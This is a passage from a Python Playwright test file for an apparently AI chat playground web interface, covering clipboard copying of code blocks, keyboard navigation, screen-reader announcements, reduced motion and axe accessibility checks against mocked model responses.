        await connection.stream(delta("```pyt"), delta("hon\n" + "x" * 500 + "\n"))
        await more.wait()
        await connection.send_events(delta("further\n"), delta("```"), delta(finish_reason="stop"))
        await connection.send(END)

    provider = await upstream(script)
    app = await service(**openai_env(provider.url))
    tab = await browse(app.url, permissions=["clipboard-read", "clipboard-write"])
    await tab.send("Hello")
    await tab.page.locator("pre", has_text="xxx").wait_for()
    await tab.page.evaluate("document.querySelector('pre').scrollLeft = 100")
    await tab.page.focus("pre")
    await tab.page.hover("figure button")
    await tab.page.mouse.down()
    await tab.page.evaluate("getSelection().selectAllChildren(document.querySelector('pre code'))")
    more.set()
    await tab.ending()
    assert "xxx" in await tab.page.evaluate("String(getSelection().getRangeAt(0))")
    await tab.page.mouse.up()
    await tab.page.wait_for_selector("text=Copied")
    copied = await tab.page.evaluate(CLIPBOARD)
    assert copied == "x" * 500 + "\nfurther"
    assert await tab.page.evaluate("document.querySelector('pre').scrollLeft") == 100


async def test_code_and_response_are_copied_as_the_model_wrote_them(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    text = "Some *code*:\n```python\nif a < b:\n    pass\n```\n"
    provider = await upstream(lambda connection: connection.complete(text))
    app = await service(**openai_env(provider.url))
    tab = await browse(app.url, permissions=["clipboard-read", "clipboard-write"])
    await tab.send("Hello")
    await tab.ending()
    await tab.page.click("figure >> text=Copy")
    await tab.page.wait_for_selector("figure >> text=Copied")
    assert await tab.page.evaluate(CLIPBOARD) == "if a < b:\n    pass"
    # A selection of the whole block does not include its button.
    await tab.page.evaluate("getSelection().selectAllChildren(document.querySelector('figure'))")
    await tab.page.keyboard.press("Control+c")
    copied = await tab.page.evaluate(CLIPBOARD)
    assert copied.strip() == "if a < b:\n    pass"
    await tab.page.click("footer >> text=Copy")
    await tab.page.wait_for_selector("footer >> text=Copied")
    assert await tab.page.evaluate(CLIPBOARD) == text


# ---- Accessibility


async def test_everything_works_with_the_keyboard(service: StartService, browse: Browse) -> None:
    app = await service(MAX_RETRIES="0", RATE_LIMIT="off")
    tab = await browse(app.url)
    keys = tab.page.keyboard

    async def reach(element: str) -> None:
        for _ in range(20):
            if await tab.page.evaluate(f"document.activeElement.matches({element!r})"):
                return
            await keys.press("Tab")
        raise AssertionError(f"Tab does not reach {element}")

    # The message has the focus from the start.
    await keys.type("One")
    await keys.press("Shift+Enter")
    await keys.type("Two")
    await keys.press("Enter")
    await tab.ending()
    assert await tab.page.inner_text(".user .text") == "One\nTwo"
    await reach("#model")
    await keys.type("mock/hang")
    await reach("#send")
    await keys.press("Shift+Tab")
    await keys.press("Shift+Tab")
    await keys.type("Three")
    await keys.press("Enter")
    await tab.page.wait_for_selector("#stop", state="visible")
    await keys.press("Escape")
    assert await tab.ending(2) == "Stopped."
    await reach("[popovertarget=access]")
    await keys.press("Enter")
    await reach("#key")
    await keys.press("Escape")
    assert not await tab.page.is_visible("#key")
    await reach("#new")
    await keys.press("Enter")
    await tab.page.wait_for_selector("#about", state="visible")
    await reach("#message")


async def test_escape_closes_a_panel_before_it_stops_a_response(
    service: StartService, browse: Browse
) -> None:
    app = await service()
    tab = await browse(app.url)
    await tab.send("Hello", "mock/hang")
    await tab.page.click("text=API key")
    await tab.page.press("#key", "Escape")
    assert not await tab.page.is_visible("#key")
    assert await tab.page.is_visible("#stop")
    await tab.page.keyboard.press("Escape")
    assert await tab.ending() == "Stopped."


async def test_header_and_composer_never_cover_the_focus(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    text = "".join(f"[link](https://example.com/) {n}\n\n```\n{n}\n```\n" for n in range(20))
    provider = await upstream(lambda connection: connection.complete(text))
    app = await service(**openai_env(provider.url))
    # The smallest viewport of WCAG 2.2 (1.4.10): 1280 pixels at a zoom of 400 %.
    tab = await browse(app.url, viewport={"width": 320, "height": 640})
    assert await tab.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    await tab.send("Hello")
    await tab.ending()
    for key in ["Shift+Tab"] * 41 + ["Tab"] * 40:
        await tab.page.keyboard.press(key)
        assert await tab.page.evaluate(
            """() => {
                const edge = (name) => document.querySelector(name).getBoundingClientRect();
                const { top, bottom } = document.activeElement.getBoundingClientRect();
                return !document.activeElement.closest("article")
                    || (top >= edge("header").bottom && bottom <= edge("#composer").top);
            }"""
        )


async def test_new_text_is_followed_until_the_user_scrolls_up(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    chunks = asyncio.Queue[str]()

    async def script(connection: Connection) -> None:
        await connection.stream(delta("Line\n\n" * 100))
        for _ in range(2):
            await connection.send_events(delta(await chunks.get()))

    provider = await upstream(script)
    app = await service(**openai_env(provider.url))
    tab = await browse(app.url)
    below = (
        "document.documentElement.scrollHeight - document.documentElement.clientHeight"
        " - document.documentElement.scrollTop"
    )
    await tab.send("Hello")
    await tab.page.locator(".text p").nth(99).wait_for()
    await tab.until(f"{below} < 2")
    assert not await tab.page.is_visible("#latest")
    await tab.page.mouse.move(400, 300)
    await tab.page.mouse.wheel(0, -20)
    await tab.until(f"{below} > 10")
    chunks.put_nowait("More.\n\n" * 10)
    await tab.page.locator(".text p", has_text="More.").nth(9).wait_for()
    assert await tab.page.evaluate(below) > 100
    await tab.page.click("text=Jump to latest")
    await tab.until(f"{below} < 2")
    assert not await tab.page.is_visible("#latest")
    chunks.put_nowait("And more.\n\n" * 10)
    await tab.page.locator(".text p", has_text="And more.").nth(9).wait_for()
    await tab.until(f"{below} < 2")
    # The growing composer does not hide the end either.
    await tab.page.fill("#message", "Line\n" * 10)
    await tab.until(f"{below} < 2")


async def test_message_field_has_the_direction_of_its_text(
    service: StartService, browse: Browse
) -> None:
    app = await service()
    tab = await browse(app.url)
    for text, direction in (("سلام", "rtl"), ("Hello", "ltr")):
        await tab.page.fill("#message", text)
        found = "getComputedStyle(document.querySelector('#message')).direction"
        assert await tab.page.evaluate(found) == direction


async def test_screen_reader_gets_short_response_with_spaces_between_blocks(
    service: StartService, upstream: StartUpstream, browse: Browse
) -> None:
    provider = await upstream(lambda connection: connection.complete("One.\n\nTwo.\n\n- Three"))
    app = await service(**openai_env(provider.url))
    tab = await browse(app.url)
    await tab.send("Hello")
    await tab.ending()
    status = await tab.page.text_content("#status")
    assert (status or "").split()[:3] == ["One.", "Two.", "Three"]


async def test_screen_reader_gets_the_end_of_a_response_once(
    service: StartService, browse: Browse
) -> None:
    app = await service()
    tab = await browse(app.url)
    await tab.page.evaluate(
        """() => {
            window.announced = [];
            const region = document.querySelector("[role=status]");
            new MutationObserver(() => announced.push(region.textContent))
                .observe(region, { childList: true });
        }"""
    )
    await tab.send("Hello", "mock/lorem-100")
    await tab.ending()
    announced = await tab.page.evaluate("announced")
    assert len(announced) == 1
    assert announced[0].startswith("The response has 100 words. mock/lorem-100")
    live = "[aria-live] .text, [role=log] .text, [role=status] .text, [role=alert] .text"
    assert await tab.page.locator(live).count() == 0


async def test_nothing_moves_where_the_user_prefers_reduced_motion(
    service: StartService, browse: Browse
) -> None:
    app = await service()
    for preference, animations in (("reduce", 0), ("no-preference", 1)):
        tab = await browse(app.url, reduced_motion=preference)
        await tab.send("Hello", "mock/hang")
        await tab.page.wait_for_selector(".waiting")
        assert await tab.page.evaluate("document.getAnimations().length") == animations


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_axe_finds_no_violation(
    service: StartService, upstream: StartUpstream, browse: Browse, size: str, scheme: str
) -> None:
    provider = await upstream(
        lambda connection: connection.complete(WIDE, "\n", MARKDOWN, "x" * 500)
    )
    models = {"MODELS": "gpt-4o-mini,mock/*"}
    app = await service(**openai_env(provider.url), **models, API_KEYS=f"web:{KEY}")
    tab = await browse(app.url, viewport=SIZES[size], color_scheme=scheme)

    async def check() -> None:
        found = await Axe().run(tab.page)
        assert found.violations_count == 0, found.generate_report()
        width = "document.documentElement.scrollWidth <= innerWidth"
        assert await tab.page.evaluate(width)

    await check()
    await tab.send("Hello " + "x" * 500)
    await tab.ending()
    await tab.send("Hello", "mock/rate-limited")
    await tab.ending(2)
    await check()
    await tab.page.evaluate("sessionStorage.apiKey = 'wrong'")
    await tab.send("Hello", "mock/echo")
    await tab.ending(3)
    await check()
    await tab.page.evaluate("delete sessionStorage.apiKey")
    await tab.send("Hello", "mock/hang")
    await tab.page.wait_for_selector("#stop", state="visible")
    if size == "phone":
        await tab.page.click("#list")
        await check()
        await tab.page.keyboard.press("Escape")
    await tab.page.click("text=API key")
    await check()


def test_screenshots_exist() -> None:
    for name in ("playground-light.png", "playground-dark.png"):
        size = (Path(__file__).parent.parent / "docs" / name).stat().st_size
        assert 5_000 < size < 150_000
